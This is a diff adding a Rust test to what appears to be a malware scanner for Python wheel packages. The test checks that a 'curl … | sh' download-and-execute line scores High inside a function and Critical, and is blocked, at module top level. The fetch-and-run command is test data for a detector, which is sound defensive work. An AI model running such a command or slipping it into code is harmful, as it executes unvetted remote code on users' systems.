@@ -1642,3 +1642,29 @@ fn documentation_constants_weigh_as_data() {
         assert!(!r.findings.is_empty() || !heavy, "{case}: still reported");
     }
 }
+
+/// Execution behaviour inside a function runs only when the application calls it: it is at
+/// most High (annotated by the shipped policy); the same code at module top level, which
+/// runs on import, stays Critical and is blocked.
+#[test]
+fn execution_inside_functions_is_at_most_high_and_on_import_stays_critical() {
+    let cradle = "curl -LsSf https://tools.example.org/install.sh | sh";
+    let in_function =
+        format!("import subprocess\ndef self_update():\n    subprocess.run(['bash', '-c', '{cradle}'])\n");
+    let on_import = format!("import subprocess\nsubprocess.run(['bash', '-c', '{cradle}'])\n");
+    let scanner = Scanner::new(Limits::default()).with_threads(1);
+    for (case, code, want, blocked) in [
+        ("a CLI's self-update, called by the user", &in_function, Severity::High, false),
+        ("the same cradle at module top level", &on_import, Severity::Critical, true),
+    ] {
+        let bytes = zip_of(&[
+            ("demo/cli.py", code.as_bytes()),
+            ("demo-1.0.dist-info/METADATA", &wheel_metadata("demo", "1.0")),
+            ("demo-1.0.dist-info/RECORD", b""),
+        ]);
+        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &bytes);
+        let f = r.findings.iter().find(|f| f.detector == "execution.download-and-execute").expect(case);
+        assert_eq!(f.severity, want, "{case}");
+        assert_eq!(verdict_for(&r).decision == crate::model::Decision::Block, blocked, "{case}: {:#?}", r.findings);
+    }
+}
